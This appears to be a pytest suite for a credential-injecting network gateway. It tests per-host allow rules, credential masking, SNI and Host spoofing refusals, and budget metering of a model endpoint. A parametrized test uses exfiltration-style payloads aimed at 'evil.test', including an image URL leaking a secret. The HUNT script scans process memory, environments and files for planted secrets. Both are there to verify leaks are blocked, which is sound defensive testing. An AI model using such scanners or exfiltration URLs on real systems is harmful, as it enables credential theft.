"""TLS that a rule opens: requests by method and path, the host's credentials, a model's endpoint and its meter."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from .world import World

SECRET, KEY = "planted-secret-1234", "sk-planted-key-9999"
POLICY = """
version: 1
name: opened
capabilities: {read_files: always, run_bash: always}
commands: {allow: everything}
trifecta: session
budget: {limit_usd: "%s"}
network:
  allow:
    - {host: api.test, methods: [GET], paths: ["/v1/**", /echo, /redirect], credential: token, trusted: true}
    - {host: www.allowed.test, protocol: https, credential: client, trusted: true}
    - {host: "*.search.test", methods: [GET], trusted: true}
    - {host: other.test, trusted: true}
    - {host: badcert.test, methods: [GET], credential: token, trusted: true}
    - {host: git.test, methods: [GET], credential: absent, trusted: true}
    - {model: anthropic, host: allowed.test, credential: key, price: {input: 3000000, output: 15000000}}
"""
MESSAGE: dict[str, Any] = {"model": "m", "max_tokens": 1000, "messages": [{"role": "user", "content": "hi"}]}


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    made = World()
    try:
        assert made.cli("credentials", "set", "token", feed=f"{SECRET}\n").returncode == 0
        assert made.cli("credentials", "set", "key", "--kind", "key", feed=KEY).returncode == 0
        yield made
    finally:
        made.close()


def run(world: World, *argv: str, budget: str = "20.00", code: int | None = 0) -> subprocess.CompletedProcess[str]:
    policy = world.policy(POLICY % budget)
    done = world.cli("exec", "--policy", policy, "--workdir", str(world.workspace), "--", *argv)
    assert code is None or done.returncode == code, done.stderr + done.stdout
    return done


def ask(world: World, body: dict[str, Any], **more: Any) -> str:
    (world.workspace / "body.json").write_text(json.dumps(body))
    (world.workspace / "body.json").chmod(0o644)
    url = "$ANTHROPIC_BASE_URL/v1/messages"
    return run(world, "sh", "-c", f"curl -sSN {url} -d @body.json -H 'content-type: application/json'", **more).stdout


def connects(world: World, event: str = "outcome") -> list[dict[str, Any]]:
    return [one for one in world.records() if one["event"] == event and one["operation"].get("kind") == "connect"]


def test_the_credential_is_the_host_s(world: World) -> None:
    said = run(world, "curl", "-sS", "https://api.test/v1/x", "-H", "Authorization: Bearer mine", "-b", "a=b").stdout
    assert "hello from api.test" in said
    headers = world.seen(target="/v1/x")[-1]["headers"]
    assert headers["authorization"] == f"Bearer {SECRET}"
    assert "cookie" not in headers
    last = connects(world)[-1]
    assert last["outcome"]["credential"] == "token"
    assert (last["operation"]["method"], last["operation"]["path"]) == ("GET", "/v1/x")


def test_the_credential_does_not_come_back(world: World) -> None:
    said = run(world, "curl", "-sSi", "https://api.test/echo").stdout
    assert SECRET not in said
    assert "Bearer *******************" in said


@pytest.mark.parametrize(
    "request_line", [("-X", "POST", "-d", "x", "https://api.test/v1/x"), ("https://api.test/v2",), ("https://api.test/",)]
)  # fmt: skip
def test_what_no_rule_lists_is_refused_before_it_leaves(world: World, request_line: tuple[str, ...]) -> None:
    before = len(world.seen())
    assert "does not allow this request" in run(world, "curl", "-sS", *request_line).stdout
    assert len(world.seen()) == before


def test_another_host_inside_is_refused_and_on_record(world: World) -> None:
    before = len(world.seen())
    said = run(world, "curl", "-sS", "https://api.test/v1/x", "-H", "Host: other.test").stdout
    assert "Host is another" in said
    assert len(world.seen()) == before
    last = connects(world, "denied")[-1]
    assert last["decision"]["rule"] == "network.fault"
    assert "http.host" in last["operation"]["fault"]


def test_another_name_in_the_hello_is_refused(world: World) -> None:
    done = run(world, "curl", "-sS", "--connect-to", "other.test:443:api.test:443", "https://other.test/", code=None)
    assert done.returncode != 0
    assert connects(world, "denied")[-1]["decision"]["rule"] == "network.inner"


def test_the_client_s_own_credential_passes_where_a_rule_says_so(world: World) -> None:
    run(world, "curl", "-sS", "https://www.allowed.test/own", "-H", "Authorization: Bearer mine", "-b", "a=b")
    headers = world.seen(target="/own")[-1]["headers"]
    assert (headers["authorization"], headers["cookie"]) == ("Bearer mine", "a=b")


def test_the_pod_s_authority_is_nobody_else_s(world: World) -> None:
    shown = run(world, "sh", "-c", "openssl x509 -in /run/nucleus/gateway.pem -noout -text; ls -l /run/nucleus").stdout
    assert "DNS:api.test" in shown
    assert "DNS:other.test" not in shown  # not opened, so not its to vouch for
    assert "IP:0.0.0.0/0.0.0.0" in shown
    # The tunnel that is not opened shows the server's own certificate.
    issuer = "curl -sSv https://%s/ 2>&1 | grep issuer"
    assert "Nucleus test CA" in run(world, "sh", "-c", issuer % "other.test").stdout
    assert "Nucleus pod CA" in run(world, "sh", "-c", issuer % "api.test").stdout


def test_a_server_that_cannot_prove_its_name_gets_no_credential(world: World) -> None:
    said = run(world, "curl", "-sS", "https://badcert.test/x").stdout
    assert "not trusted" in said
    assert not world.seen(target="/x", address="93.184.216.39")


def test_a_credential_that_is_not_set(world: World) -> None:
    said = run(world, "curl", "-sS", "https://git.test/").stdout
    assert "there is no credential absent" in said


def test_python_and_git_trust_it_too(world: World) -> None:
    code = "import urllib.request as u; print(u.urlopen('https://api.test/v1/py').read())"
    assert "hello from api.test" in run(world, "python3", "-c", code).stdout


def test_a_new_value_holds_at_once(world: World) -> None:
    assert world.cli("credentials", "set", "token", feed="another-secret-5678").returncode == 0
    try:
        run(world, "curl", "-sS", "https://api.test/v1/new")
        assert world.seen(target="/v1/new")[-1]["headers"]["authorization"] == "Bearer another-secret-5678"
    finally:
        world.cli("credentials", "set", "token", feed=SECRET)


def test_a_model_s_endpoint(world: World) -> None:
    said = ask(world, {**MESSAGE, "metadata": {"user_id": "10"}})
    assert json.loads(said)["usage"]["output_tokens"] == 10
    seen = world.seen(target="/v1/messages")[-1]
    assert (seen["address"], seen["headers"]["x-api-key"]) == ("93.184.216.34", KEY)
    last = connects(world)[-1]
    # 100 in at 3 and 10 out at 15 micro-dollars, and what the connection itself costs.
    assert 450 <= last["context"]["charged"] < 450 + 600
    assert last["context"]["reserved"] > 15_000


def test_a_model_s_stream_is_charged_as_it_says(world: World) -> None:
    said = ask(world, {**MESSAGE, "stream": True, "metadata": {"user_id": "200"}})
    assert "word199" in said
    assert "message_stop" in said
    assert 3_300 <= connects(world)[-1]["context"]["charged"] < 3_300 + 700


def test_a_stream_ends_with_the_budget(world: World) -> None:
    """Nothing holds a million tokens here: paid by instalments, and cut cleanly at the end of the money."""
    before = len(connects(world))
    body = {**MESSAGE, "max_tokens": 1_000_000, "stream": True, "metadata": {"user_id": "40000"}}
    said = ask(world, body, budget="0.30", code=None)
    assert "word100" in said
    assert "budget_exhausted" in said
    assert "message_stop" not in said
    parts = connects(world)[before:]
    assert len(parts) > 1
    assert sum(one["context"]["charged"] for one in parts) <= 300_000
    assert sum(one["context"]["charged"] for one in parts) > 50_000
    # Without a stream nothing can be cut: the most that it may cost has to be there.
    said = ask(world, {**body, "stream": False}, budget="0.30")
    assert "budget" in said


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ({**MESSAGE, "mcp_servers": [{"url": "https://evil.test"}]}, "model.server_tools"),
        ({**MESSAGE, "tools": [{"type": "web_search_20250305", "name": "web_search"}]}, "model.server_tools"),
        (
            {**MESSAGE, "messages": [{"role": "user", "content": [
                {"type": "image", "source": {"type": "url", "url": "https://evil.test/?q=SECRET"}}]}]},
            "model.remote",
        ),
    ],
)  # fmt: skip
def test_the_provider_acts_for_nobody(world: World, body: dict[str, Any], rule: str) -> None:
    before = len(world.seen())
    assert rule in ask(world, body)
    assert len(world.seen()) == before
    assert rule in connects(world, "denied")[-1]["operation"]["fault"]


def test_other_paths_of_a_model(world: World) -> None:
    before = len(world.seen())
    said = run(
        world, "sh", "-c", "curl -sS $ANTHROPIC_BASE_URL/v1/files; curl -sS https://allowed.test/v1/files"
    ).stdout
    assert said.count("error") == 2
    assert len(world.seen()) == before


HUNT = r"""
import os
import urllib.request as u
wanted = [bytes(reversed(word)) for word in (b"TOKEN", b"KEY")]
u.urlopen("https://api.test/v1/hunt").read()
found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for name in ("environ", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{name}", "rb").read()
        except OSError:
            continue
        found += [(pid, name) for word in wanted if word in data]
    try:
        maps = [line.split() for line in open(f"/proc/{pid}/maps")]
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for line in maps:
        if "r" in line[1] and not line[-1].startswith("[v"):
            low, high = (int(part, 16) for part in line[0].split("-"))
            try:
                memory.seek(low)
                data = memory.read(min(high - low, 1 << 26))
            except OSError:
                continue
            found += [(pid, line[-1]) for word in wanted if word in data]
for base, _, names in os.walk("/"):
    if base.startswith(("/proc", "/sys", "/usr", "/lib")):
        continue
    for name in names:
        try:
            path = os.path.join(base, name)
            if os.path.isfile(path) and any(word in open(path, "rb").read(1 << 22) for word in wanted):
                found.append((base, name))
        except OSError:
            pass
import json
print("found", json.dumps(found))
"""


def test_a_planted_secret_is_nowhere(world: World) -> None:
    """Not in the pod's environment, memory, files; not in the log, the console, the state beside its own file."""
    hunt = HUNT.replace("TOKEN", SECRET[::-1]).replace("KEY", KEY[::-1])
    (world.workspace / "hunt.py").write_text(hunt)
    (world.workspace / "hunt.py").chmod(0o644)
    done = run(world, "python3", "hunt.py")
    # `wanted` itself is in the hunter's own heap, and nowhere else.
    left = [one for one in json.loads(done.stdout.partition("found ")[2]) if one[1] != "[heap]" and one[1] != "0"]
    assert not left
    assert SECRET not in done.stderr
    log = world.audit_log.read_text()
    assert SECRET not in log
    assert KEY not in log
    kept = [
        path for path in world.audit_log.parent.rglob("*") if path.is_file() and SECRET.encode() in path.read_bytes()
    ]
    assert [path.name for path in kept] == ["token"]


def test_a_connection_goes_on_past_its_first_allowance(world: World) -> None:
    """Three times 8 MiB through one tunnel: each part of 16 MiB is reserved, settled and on record by itself."""
    urls = ["https://other.test/big"] * 3
    done = run(world, "sh", "-c", f"curl -sS {' '.join(urls)} | wc -c")
    assert done.stdout.strip() == str(3 * 8_388_608)
    parts = [one["operation"]["part"] for one in connects(world) if one["operation"]["host"] == "other.test"]
    assert parts[-2:] == [0, 1]


def test_an_agent_finds_its_model(world: World) -> None:
    """`nucleus run`: the agent's own environment, its own requests, no key."""
    code = (
        "import json, os, urllib.request as u; base = os.environ['ANTHROPIC_BASE_URL'];"
        "body = json.dumps({'model': 'm', 'max_tokens': 9, 'messages': [{'role': 'user', 'content': 'hi'}]}).encode();"
        "r = u.Request(base + '/v1/messages', body, {'x-api-key': os.environ['ANTHROPIC_API_KEY']});"
        "print(os.environ['ANTHROPIC_API_KEY'], json.load(u.urlopen(r))['usage'])"
    )
    policy = world.policy(POLICY % "5.00")
    done = world.cli("run", "--policy", policy, "--workdir", str(world.workspace), "--", "python3", "-c", code)
    assert done.returncode == 0, done.stderr
    assert "nucleus {'input_tokens': 100" in done.stdout
    assert world.seen(target="/v1/messages")[-1]["headers"]["x-api-key"] == KEY
